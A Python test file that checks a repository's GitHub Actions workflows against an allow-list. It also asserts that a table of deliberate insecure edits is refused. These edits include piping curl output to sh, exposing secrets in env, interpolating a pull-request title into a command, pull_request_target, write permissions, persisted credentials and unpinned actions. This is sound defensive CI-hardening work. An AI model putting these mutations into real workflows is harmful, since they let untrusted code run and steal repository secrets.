"""What a workflow may do: each is, key by key, what ``workflows.py`` lists.

GitHub runs these files with what the repository has to give away, and a change of one word can give it away, or let
every check pass. So no list of what is forbidden is kept: whatever is not listed is refused.
"""

from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
import yaml

from tests.workflows import ALLOWED, CHECKOUT

ROOT = Path(__file__).parents[1]
WORKFLOWS = ROOT / ".github/workflows"


def read(text: str) -> Any:  # noqa: ANN401 - whatever YAML can say
    """A workflow; YAML reads its key ``on`` as a truth value."""
    workflow = yaml.safe_load(text)
    return {"on" if key is True else key: value for key, value in workflow.items()}


def differences(found: object, allowed: object, place: str = "") -> Iterator[str]:
    """Where a workflow is not what is allowed, each as its place, such as ``jobs.check.steps.2.run``."""
    if isinstance(found, dict) and isinstance(allowed, dict):
        for key in dict.fromkeys((*found, *allowed)):
            yield from differences(found.get(key, "missing"), allowed.get(key, "missing"), f"{place}.{key}")
    elif isinstance(found, list) and isinstance(allowed, list) and len(found) == len(allowed):
        for number, pair in enumerate(zip(found, allowed, strict=True)):
            yield from differences(*pair, f"{place}.{number}")
    elif (type(found), found) != (type(allowed), allowed):
        yield place.removeprefix(".")


def test_every_workflow_is_listed() -> None:
    """Whatever its name ends with, and none is listed that is gone."""
    assert sorted(path.name for path in WORKFLOWS.iterdir()) == sorted(ALLOWED)


@pytest.mark.parametrize("name", ALLOWED)
def test_workflow_is_what_is_allowed(name: str) -> None:
    """To the last key and value."""
    assert list(differences(read((WORKFLOWS / name).read_text("utf-8")), ALLOWED[name])) == []


@pytest.mark.parametrize("name", ALLOWED)
def test_workflow_runs_files_of_the_repository(name: str) -> None:
    """A command is one file, which anyone can run without GitHub; the one that publishes runs nothing of it."""
    runs = [step["run"] for job in ALLOWED[name]["jobs"].values() for step in job["steps"] if "run" in step]
    scripts = [run.removeprefix("bash ") for run in runs if not run.startswith("pipx ")]

    assert [script for script in scripts if not (ROOT / script).is_file()] == []


@pytest.mark.parametrize("name", ALLOWED)
def test_job_that_may_write_runs_none_of_the_repository(name: str) -> None:
    """It checks out nothing, so there is nothing to run."""
    writing = [job for job in ALLOWED[name]["jobs"].values() if "write" in job.get("permissions", {}).values()]

    assert [job for job in writing if CHECKOUT in job["steps"]] == []


@pytest.mark.parametrize("name", ALLOWED)
def test_action_is_github_s_own_and_says_its_version(name: str) -> None:
    """A hash says nothing to who reads it."""
    lines = [line for line in (WORKFLOWS / name).read_text("utf-8").splitlines() if "uses:" in line]

    assert [line for line in lines if "uses: actions/" not in line or "# v" not in line] == []


RUN = "run: bash .ci/run"
TIMEOUT = "    timeout-minutes: 60\n"
PERMISSIONS = "permissions:\n  contents: read\n"
CREDENTIALS = "persist-credentials: false"
PINNED = "@3d3c42e5aac5ba805825da76410c181273ba90b1"
TITLE, SECRET = "${{ github.event.pull_request.title }}", "${{ secrets.KEY }}"
JOB = "jobs:\n  x: {runs-on: ubuntu-latest, timeout-minutes: 9, steps: [{run: curl example.org | sh}]}\n"
KEPT = "jobs.check.steps.0.with.persist-credentials"
"""Where it is said that a job's code finds no token."""
STEP = "jobs.check.steps.2"
"""The one that checks."""
ALTERED: dict[str, list[tuple[str, str, str]]] = {
    # what stands in a workflow, what stands there instead, and where that is refused
    "check.yml": [
        # strangers' code gets what it must not have: a secret, a token, a machine
        ("  pull_request:", "  pull_request_target:", "on.pull_request_target on.pull_request"),
        (PERMISSIONS, "permissions:\n  contents: write\n", "permissions.contents"),
        (PERMISSIONS, "permissions: write-all\n", "permissions"),
        (PERMISSIONS, "", "permissions"),  # the defaults may write
        (CREDENTIALS, "persist-credentials: true", KEPT),
        (CREDENTIALS, "persist-credentials: 0", KEPT),  # equal to false in Python, and a text to the action
        (CREDENTIALS, "fetch-depth: 1", f"jobs.check.steps.0.with.fetch-depth {KEPT}"),  # true where nothing is said
        (RUN, f"{RUN}\n        env: {{KEY: '{SECRET}'}}", f"{STEP}.env"),
        (RUN, f"run: echo {TITLE}", f"{STEP}.run"),  # a title may hold a command
        (PERMISSIONS, f"env: {{BASH_ENV: docs/a.sh}}\n{PERMISSIONS}", "env"),  # runs before each command
        ("runs-on: ubuntu-latest", "runs-on: self-hosted", "jobs.check.runs-on"),
        # what runs is not what was read
        (PINNED, "@v7", "jobs.check.steps.0.uses"),  # a tag can move
        (PINNED, f"@{'0' * 40}", "jobs.check.steps.0.uses"),  # a commit may be that of a fork
        ("actions/setup-python@", "someone/setup-python@", "jobs.check.steps.1.uses"),
        (CREDENTIALS, f"{CREDENTIALS}\n          ref: other", "jobs.check.steps.0.with.ref"),
        (RUN, "run: curl example.org | sh", f"{STEP}.run"),
        ("jobs:\n", JOB, "jobs.x"),
        (RUN, f"{RUN}\n    container: someone/image", "jobs.check.container"),
        # it passes whatever is wrong
        (RUN, f"{RUN} || true", f"{STEP}.run"),
        (RUN, f"{RUN}\n        continue-on-error: true", f"{STEP}.continue-on-error"),
        (TIMEOUT, f"{TIMEOUT}    continue-on-error: true\n", "jobs.check.continue-on-error"),
        (RUN, f"{RUN}\n        shell: 'true {{0}}'", f"{STEP}.shell"),  # what is run is never read
        (PERMISSIONS, f"defaults: {{run: {{shell: 'true {{0}}'}}}}\n{PERMISSIONS}", "defaults"),
        (RUN, f"{RUN}\n        if: false", f"{STEP}.if"),
        (TIMEOUT, f"{TIMEOUT}    if: false\n", "jobs.check.if"),
        (f"      - {RUN}\n", "", "jobs.check.steps"),
        (', "3.14"', "", "jobs.check.strategy.matrix.python"),
        ('"3.14"]', '"3.14"]\n        exclude: [{python: "3.14"}]', "jobs.check.strategy.matrix.exclude"),
        ('"3.11",', "3.11,", "jobs.check.strategy.matrix.python.0"),  # as a number 3.10 would be 3.1
        ("  pull_request:\n", "  pull_request: {paths-ignore: ['**']}\n", "on.pull_request"),
        ("  pull_request:\n", "", "on.pull_request"),
        (TIMEOUT, "", "jobs.check.timeout-minutes"),  # six hours
    ],
    "upgrade.yml": [('  schedule:\n    - cron: "17 4 * * 1"\n', "", "on.schedule")],
    "publish.yml": [
        # what is published is not what was checked
        ("branches: [main]", "branches: ['**']", "on.push.branches.0"),
        ("    needs: build\n", "", "jobs.deploy.needs"),
        ("path: site", "path: .", "jobs.build.steps.3.with.path"),
        ("pages: write", "pages: write\n      contents: write", "jobs.deploy.permissions.contents"),
        ("    environment:\n      name: github-pages\n", "", "jobs.deploy.environment"),  # which lets main alone pass
    ],
    "release.yml": [
        # as above
        ("    environment:\n      name: release\n", "", "jobs.publish.environment"),
        ('tags: ["v*"]', 'branches: ["**"]', "on.push.branches on.push.tags"),
        ("uv==0.13.9", "uv", "jobs.publish.steps.1.run"),  # whatever is the newest
    ],
}


@pytest.mark.parametrize(("name", "row"), [(name, row) for name, rows in ALTERED.items() for row in rows])
def test_altered_workflow_is_refused(name: str, row: tuple[str, str, str]) -> None:
    """Where it was altered, and nowhere else."""
    before, after, places = row
    text = (WORKFLOWS / name).read_text("utf-8")
    assert before in text
    altered = read(text.replace(before, after, 1))

    assert list(differences(altered, ALLOWED[name])) == places.split()
